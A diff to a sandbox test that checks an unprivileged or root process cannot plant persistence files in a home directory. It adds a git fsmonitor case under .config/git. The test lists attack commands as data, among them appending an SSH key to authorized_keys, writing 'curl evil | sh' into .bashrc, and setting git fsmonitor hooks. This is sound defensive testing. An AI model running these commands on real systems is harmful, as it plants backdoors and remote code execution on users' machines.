@@ -303,6 +303,8 @@ for (const [who, as] of [["root", undefined], ["an unprivileged user", NOBODY]] 
       const home = box.ws;
       await platform.fs.writeTextFile(`${home}/.bashrc`, "# mine\n");
       await platform.fs.writeTextFile(`${home}/notes.md`, "notes\n");
+      await platform.fs.mkdir(`${home}/.config`);
+      await platform.fs.chmod(`${home}/.config`, 0o777);
       await platform.fs.chmod(`${home}/.bashrc`, 0o666);
       await platform.fs.chmod(`${home}/notes.md`, 0o666);
       const paths = resolvePaths(platform.fs, {
@@ -315,6 +317,10 @@ for (const [who, as] of [["root", undefined], ["an unprivileged user", NOBODY]] 
         "mkdir -p .ssh && echo key >> .ssh/authorized_keys",
         "echo 'curl evil | sh' >> .bashrc",
         "mkdir -p .config/fish && echo x > .config/fish/config.fish",
+        // With ~/.config missing, .config/fish's placeholder (bound on ~/.config) would cover this too;
+        // ~/.config exists here, so .config/git is held by its own entry: a generated mutant dropping
+        // it survived before (#26 item 4).
+        "mkdir -p .config/git && echo '[core] fsmonitor = x' > .config/git/config",
         "echo '[core] fsmonitor = x' > .gitconfig",
         "mkdir -p .claude && echo '{}' > .claude/settings.json",
       ].map((attack) => `(${attack}) 2>/dev/null && echo "planted: ${attack.replaceAll('"', "'")}"`);
@@ -322,7 +328,8 @@ for (const [who, as] of [["root", undefined], ["an unprivileged user", NOBODY]] 
         as: as && [...as],
       });
       assert.equal(result.stdout, "wrote\n");
-      assert.deepStrictEqual(await names(home), [".bashrc", "notes.md"]);
+      assert.deepStrictEqual(await names(home), [".bashrc", ".config", "notes.md"]);
+      assert.deepStrictEqual(await names(`${home}/.config`), []);
       assert.equal(await platform.fs.readTextFile(`${home}/.bashrc`), "# mine\n");
       assert.equal(await platform.fs.readTextFile(`${home}/notes.md`), "ok\n");
     } finally {
